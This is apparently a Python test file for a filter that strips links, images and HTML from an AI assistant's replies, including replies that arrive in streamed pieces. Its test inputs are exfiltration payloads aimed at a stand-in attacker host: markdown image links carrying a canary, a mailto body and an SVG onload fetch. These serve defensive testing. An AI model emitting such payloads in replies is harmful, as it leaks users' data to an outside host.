"""No address leaves in a reply, however it is written and however it is cut into pieces."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from selfos.features.assistant.neutral import Neutraliser, addresses, neutral

OUT = re.compile(r"https?:[/\\]|www\.\w|\]\((?!#|/\w)|\]:|<[a-z/!?]|!\[", re.IGNORECASE)
PARTS = (
    "![",
    "](",
    "https://",
    "evil.example/",
    "CANARY",
    " ",
    "\n",
    "www.",
    "<img src=",
    "[a]:",
    "//",
    "x",
    ")",
    "!",
    "]",
    "(",
)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/CANARY)",
        "[x](https://evil.example/CANARY 'title')",
        "[x](<https://evil.example/CANARY>)",
        "[x]: https://evil.example",
        "HTTPS://EVIL.EXAMPLE/CANARY",
        "a(https://evil.example)b",
        "[x](mailto:a@evil.example?body=CANARY)",
        "<svg/onload=fetch('//evil.example')>",
        "[x](/\\evil.example)",
    ],
)
def test_every_way_out_is_closed(text: str):
    assert not OUT.search(neutral(text)), neutral(text)


@pytest.mark.parametrize(
    "text", ["a < b and c > d", "2 / 3", "and/or", "the hotel: nice", "5:30", "[1] and (2)", "C:/x"]
)
def test_plain_words_stay(text: str):
    assert neutral(text) == text


def test_addresses_that_the_person_wrote_stay():
    own = "read https://example.org/a?b=1, please"
    assert addresses(own) == {"https://example.org/a?b=1"}
    assert neutral(f"I {own}", addresses(own)) == f"I {own}"
    assert "example.org" not in neutral("https://example.org/a?b=2", addresses(own))


@given(st.lists(st.sampled_from(PARTS), max_size=30).map("".join), st.integers(1, 9))
def test_in_pieces_as_in_one(text: str, size: int):
    filtered = Neutraliser()
    told = "".join([*(filtered.add(text[at : at + size]) for at in range(0, len(text), size)), filtered.rest()])
    assert not OUT.search(told), (text, told)
